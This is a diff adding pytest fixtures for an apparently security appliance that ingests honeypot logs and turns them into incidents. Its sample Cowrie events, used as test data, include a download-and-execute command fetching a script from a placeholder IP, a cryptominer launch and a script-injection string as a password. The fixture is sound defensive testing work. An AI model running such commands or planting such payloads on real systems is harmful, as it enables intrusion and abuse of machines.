@@ -1,0 +1,93 @@
+"""One running appliance for all stories: real processes, real rules where there are corpora, real events."""
+
+import asyncio
+import re
+import time
+from collections.abc import Iterator
+
+import httpx
+import pytest
+
+from appliance.cli.settling import first_sign_in
+from tests.factories.stack import Stack, running_stack
+
+PASSWORD = "seven green bicycles at dawn"  # noqa: S105 — of a database that lives for one test run
+
+COWRIE = """{"eventid":"cowrie.session.connect","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:00Z","sensor":"pot-1"}
+{"eventid":"cowrie.login.success","username":"root","password":"<script>alert(1)</script>","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:02Z","sensor":"pot-1"}
+{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:05Z","sensor":"pot-1"}
+{"eventid":"cowrie.session.file_download","url":"http://198.51.100.9/x.sh","shasum":"0f343b0931126a20f133d67c2b018a3b5f9d4a8b1c0d8e7f6a5b4c3d2e1f0a9b","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:06Z","sensor":"pot-1"}
+{"eventid":"cowrie.command.input","input":"./xmrig -o stratum+tcp://pool.example:3333 -u x","src_ip":"203.0.113.7","session":"a1b2","timestamp":"2026-05-01T12:00:09Z","sensor":"pot-1"}
+"""
+
+
+class Browser:
+    """A signed-in session, as the cookie a browser would hold."""
+
+    def __init__(self, client: httpx.Client, cookie: str) -> None:
+        self._client, self.cookie = client, cookie
+        self._csrf = self.get("/api/v1/session").json()["csrf_token"]
+
+    def get(self, path: str, **parameters: object) -> httpx.Response:
+        return self._client.get(path, params=parameters, headers={"Cookie": self.cookie})
+
+    def post(self, path: str, json: object, **headers: str) -> httpx.Response:
+        return self._client.post(
+            path, json=json, headers={"Cookie": self.cookie, "X-CSRF-Token": self._csrf} | headers
+        )
+
+    def patch(self, path: str, json: object, **headers: str) -> httpx.Response:
+        return self._client.patch(
+            path, json=json, headers={"Cookie": self.cookie, "X-CSRF-Token": self._csrf} | headers
+        )
+
+
+@pytest.fixture(scope="session")
+def appliance() -> Iterator[Stack]:
+    with running_stack(port=39443, ingest_port=39088) as stack:
+        stack.link = asyncio.run(first_sign_in(stack.settings))
+        stack.start("web", "ingest", "detect")
+        stack.wait_for_ingest()
+        _wait_for_web(stack)
+        yield stack
+
+
+@pytest.fixture(scope="session")
+def browser(appliance: Stack) -> Iterator[Browser]:
+    """The first administrator, who came in by the one-time link."""
+    with httpx.Client(base_url=appliance.web_url, timeout=30) as client:
+        form = {"token": appliance.link, "password": PASSWORD, "again": PASSWORD}
+        answer = client.post("/welcome", data=form)
+        assert answer.status_code == 303, answer.text
+        yield Browser(client, answer.headers["set-cookie"].partition(";")[0])
+
+
+@pytest.fixture(scope="session")
+def fed(appliance: Stack, browser: Browser) -> str:
+    """The honeypot's session has been ingested; the id of the incident it became."""
+    source = browser.post("/api/v1/sources", {"name": "honeypot", "format": "auto"}).json()
+    token = browser.post(f"/api/v1/sources/{source['id']}/tokens", {}).json()["token"]
+    answer = httpx.post(
+        f"{appliance.ingest_url}/api/v1/ingest/honeypot",
+        content=COWRIE + "this is no event\n",
+        headers={"Authorization": f"Bearer {token}", "X-Batch-Id": "first"},
+        timeout=60,
+    )
+    assert answer.status_code == 201, answer.text
+    assert re.match(r"[0-9a-f-]{36}", answer.json()["batch_id"])
+    deadline = time.monotonic() + 30
+    while not (items := browser.get("/api/v1/incidents").json()["items"]):
+        assert time.monotonic() < deadline, f"no incident from {answer.json()}"
+        time.sleep(0.2)
+    return items[0]["id"]
+
+
+def _wait_for_web(stack: Stack) -> None:
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        try:
+            if httpx.get(f"{stack.web_url}/health/startup", timeout=2).status_code == 200:
+                return
+        except httpx.TransportError:
+            time.sleep(0.2)
+    raise RuntimeError((stack.folder / "processes.log").read_text()[-3000:])
